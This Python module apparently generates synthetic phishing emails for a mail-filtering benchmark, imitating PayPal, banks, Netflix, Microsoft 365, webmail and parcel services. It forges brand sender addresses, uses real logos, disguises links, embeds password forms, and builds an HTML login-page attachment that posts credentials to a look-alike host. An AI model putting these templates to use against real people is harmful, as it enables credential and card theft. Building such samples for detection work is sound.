"""Credential phishing sent through a compromised account: brands, banks, parcels, Microsoft 365, webmail."""
# ruff: noqa: RUF001 - text in other scripts keeps its own punctuation (full-width forms, Hebrew, Arabic)

from __future__ import annotations

from bench.modern_mail.blocks import Block, Button, Doc, Form, Img, Link, P, Small, to_html, to_text
from bench.modern_mail.context import Built, Ctx
from bench.modern_mail.languages import greet
from bench.modern_mail.model import Attachment, Mail, Person
from bench.modern_mail.phish_phrases import (
    ACCOUNT,
    ATTACHED_PAGE,
    BANK,
    DELIVERY,
    M365,
    PASSWORD,
    PAYPAL,
    STREAMING,
    WEBMAIL,
    Phish,
)
from bench.modern_mail.shops import tracking_code
from bench.modern_mail.spam_links import LOOKALIKES, phish_url
from bench.modern_mail.spam_senders import random_local, send, victims

# brand key -> (display names, real brand domain forged in From:, hotlinked logo, footer name)
BRANDS: dict[str, tuple[tuple[str, ...], str, str, str]] = {
    "paypal": (("PayPal", "PayPal Service", "service@intl.paypal.com", "PayPal Security Team"), "paypal.com",
               "https://www.paypalobjects.com/digitalassets/c/website/logo/full-text/pp_fc_hl.svg", "PayPal, Inc."),
    "microsoft": (("Microsoft 365", "Microsoft account team", "SharePoint Online", "IT Helpdesk", "Office 365 Admin"),
                  "microsoft.com", "https://img-prod-cms-rt-microsoft-com.akamaized.net/cms/api/am/imageFileData/RE1Mu3b",
                  "Microsoft Corporation"),
    "netflix": (("Netflix", "Netflix Support", "Netflix Billing"), "netflix.com",
                "https://assets.nflxext.com/us/email/gem/nflx.png", "Netflix, Inc."),
    "webmail": (("Mail Administrator", "Webmail Support", "cPanel", "IT Support", "Postmaster"), "",
                "", "Mail Server"),
}
_MERCHANTS = ("Coinbase", "Best Buy", "Apple Store", "Binance", "Steam Games")
_FEES = {"en": "£1.45", "de": "1,99 €", "fr": "1,99 €", "es": "2,99 €", "ja": "250円", "zh": "¥12.00",
         "ar": "12 درهم", "he": "₪9.90"}
_PHONE = ("+1 (888) 555-0{n}", "+1 (844) 555-0{n}", "+1 (877) 555-0{n}")


def _slots(ctx: Ctx, victim: Person) -> dict[str, str]:
    return {"victim": victim.email, "amount": ctx.pick(("$499.99 USD", "€389,00", "$1,249.00 USD", "£620.00")),
            "merchant": ctx.pick(_MERCHANTS), "date": f"{ctx.when.day:02d}.{ctx.when.month:02d}.{ctx.when.year}",
            "code": ctx.pick((f"JJD{ctx.digits(18)}", f"{ctx.token(2, 'ABCDEFGHJKLMNPRSTUVWXYZ')}{ctx.digits(9)}GB",
                              f"SF{ctx.digits(13)}", ctx.token(17, 'ABCDEFGHJKLMNPRSTUVWXYZ0123456789'))),
            "fee": _FEES.get(ctx.lang, "$2.99"),
            "order": f"{ctx.digits(3)}-{ctx.digits(7)}-{ctx.digits(7)}",
            "sender_name": ctx.person("en").name, "phone": ctx.pick(_PHONE).format(n=ctx.rng.randint(100, 199))}


def _from(ctx: Ctx, brand_key: str, display: str, victim: Person) -> tuple[str, str]:
    real = BRANDS.get(brand_key, ((), "", "", ""))[1]
    lookalike = ctx.pick(LOOKALIKES.get(brand_key, LOOKALIKES["webmail"]))
    options = [f"no-reply@{lookalike}", f"{random_local(ctx)}@{lookalike}"]
    if real:
        options.append(f"service@{real}")
    if brand_key == "webmail":  # the victim's own domain: "your mail server" writing
        options.append(f"postmaster@{victim.email.rpartition('@')[2]}")
    return display, ctx.pick(options)


def _build(ctx: Ctx, brand_key: str, display: str, phish: Phish, notes: str, *, form: bool = False,
           page: bool = False, code: str = "") -> Built:
    many = ctx.chance(0.4)
    targets = victims(ctx, 8, 60) if many else [ctx.person()]
    victim = targets[0]
    slots = _slots(ctx, victim)
    if code:
        slots["code"] = code
    subject, paragraphs, button = phish
    subject = subject.format(**slots)
    link = phish_url(ctx, brand_key if brand_key in LOOKALIKES else "webmail", "" if many else victim.email)
    name, addr = _from(ctx, brand_key, display, victim)
    blocks: list[Block] = []
    logo = BRANDS.get(brand_key, ((), "", "", ""))[2]
    if logo and ctx.chance(0.6):
        blocks.append(Img(logo, display, 120))
    if ctx.chance(0.4) and not paragraphs[0].endswith((",", ":", "،", "：")):
        blocks.append(P(greet(ctx.lang, victim.first, victim.name, formal=True) if ctx.chance(0.5)
                        else ctx.pick(("Dear Customer,", "Dear user,", "Hello,")) if ctx.lang == "en"
                        else greet(ctx.lang, victim.first, victim.name)))
    blocks += [P(p.format(**slots)) for p in paragraphs]
    if form:
        blocks.append(Form(link, "" if many else victim.email, PASSWORD.get(ctx.lang, "Password"), button))
    elif button and not page:
        real = BRANDS.get(brand_key, ((), "", "", ""))[1]
        if real and ctx.chance(0.3):  # the text shows the brand's address, the link goes elsewhere
            blocks.append(Link(f"https://www.{real}/signin/security-check", link))
        else:
            blocks.append(Button(button, link))
    footer_name = BRANDS.get(brand_key, ((), "", "", display))[3] or display
    if ctx.chance(0.6):
        blocks.append(Small(f"© {ctx.when.year} {footer_name.rstrip('.')}. All rights reserved."))
    doc = Doc(blocks, ctx.lang, subject, ctx.pick(("#0070ba", "#0078d4", "#e50914", "#d40511", "#1a1a1a")))
    plain = not form and not page and ctx.chance(0.3)
    mail = Mail(subject=subject, from_name=name, from_addr=addr, to=[], lang=ctx.lang,
                text=to_text(doc) if plain or ctx.chance(0.3) else None,
                html=None if plain else to_html(doc, ctx.pick(("builder", "simple"))),
                agent=ctx.pick(("old_phpmailer", "bare_php", "bulk_tool", "phpmailer", "outlook", "none")))
    if page:
        mail.attachments.append(_login_page(ctx, link, victim.email, display))
    if ctx.chance(0.25):
        mail.reply_to = ("", f"{random_local(ctx)}@{ctx.pick(('gmail.com', 'outlook.com', 'proton.me'))}")
    sub = send(ctx, mail, targets, own_from=None if brand_key != "webmail" else ctx.chance(0.4))
    return Built(mail, sub, notes)


def _login_page(ctx: Ctx, action: str, victim: str, brand: str) -> Attachment:
    """An HTML attachment that draws a sign-in page and posts the password to the intruder's host."""
    page = (f"<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>Sign in to your account</title></head>"
            f"<body style=\"font-family:Segoe UI,Arial\"><div style=\"width:360px;margin:80px auto\">"
            f"<h2>{brand}</h2><p>Because you're accessing sensitive info, you need to verify your password.</p>"
            f"<form method=\"POST\" action=\"{action}\"><input type=\"email\" name=\"login\" value=\"{victim}\">"
            f"<input type=\"password\" name=\"passwd\" placeholder=\"Password\"><button>Sign in</button></form>"
            f"</div></body></html>\n")
    name = ctx.pick(("Remittance_Advice_{n}.htm", "Payment_Confirmation_{n}.html", "Voicemail_{n}.html",
                     "Scan_{n}.shtml")).format(n=ctx.digits(6))
    return Attachment(name, "text/html", page.encode("utf-8"))


def phish_paypal(ctx: Ctx) -> Built:
    """PayPal: limited account, unauthorized payment, or a fake receipt with a support number to call."""
    return _build(ctx, "paypal", ctx.pick(BRANDS["paypal"][0]), ctx.pick(PAYPAL[ctx.lang]), "PayPal phishing")


def phish_bank(ctx: Ctx) -> Built:
    """A bank's security notice asking to log in at a look-alike site."""
    brand, phish = ctx.pick(BANK[ctx.lang])
    return _build(ctx, f"bank_{ctx.lang}", brand, phish, f"bank phishing ({brand})")


def phish_streaming(ctx: Ctx) -> Built:
    """Netflix: payment declined, update your card."""
    return _build(ctx, "netflix", ctx.pick(BRANDS["netflix"][0]), ctx.pick(STREAMING[ctx.lang]), "Netflix phishing")


def phish_account(ctx: Ctx) -> Built:
    """Shops, card issuers and toll services: the account is locked until the victim logs in."""
    brand, phish = ctx.pick(ACCOUNT[ctx.lang])
    keys = {"Apple": "apple", "三井住友カード": "smbc", "ETC利用照会サービス": "etc", "淘宝网": "taobao"}
    key = keys.get(brand, "amazon")
    return _build(ctx, key, brand, phish, f"account phishing ({brand})")


def phish_m365(ctx: Ctx) -> Built:
    """Microsoft 365: password expiry, shared file, voicemail, held messages; some carry a login page as HTML."""
    display = ctx.pick(BRANDS["microsoft"][0])
    if ctx.lang in ATTACHED_PAGE and ctx.chance(0.3):
        subject, body = ATTACHED_PAGE[ctx.lang]
        phish: Phish = (subject, [body], "")
        return _build(ctx, "microsoft", display, phish, "Microsoft 365 phishing, login page attached", page=True)
    return _build(ctx, "microsoft", display, ctx.pick(M365[ctx.lang]), "Microsoft 365 phishing")


def phish_webmail(ctx: Ctx) -> Built:
    """'Mailbox full' / 'account deactivation' with a password form right in the message or a link to one."""
    display = ctx.pick(BRANDS["webmail"][0])
    return _build(ctx, "webmail", display, ctx.pick(WEBMAIL[ctx.lang]), "webmail credential phishing",
                  form=ctx.chance(0.5))


def phish_delivery(ctx: Ctx) -> Built:
    """A parcel held for a small fee: the link collects card details."""
    brand, phish = ctx.pick(DELIVERY[ctx.lang])
    key = {"Royal Mail": "royalmail", "La Poste": "laposte", "Correos": "correos", "日本郵便": "japanpost",
           "顺丰速运": "sf", "Aramex": "aramex"}.get(brand, "dhl")
    pattern = {"dhl": "JJDDDDDDDDDDDDDDDDDDD", "royalmail": "LLDDDDDDDDDGB", "laposte": "6ADDDDDDDDDDD",
               "correos": "PQLDDDDDDDDDDDDD", "japanpost": "DDDD-DDDD-DDDD", "sf": "SFDDDDDDDDDDDDD"}
    code = tracking_code(pattern.get(key, "DDDDDDDDDDD"), ctx.rng)
    return _build(ctx, key, brand, phish, f"parcel phishing ({brand})", code=code)
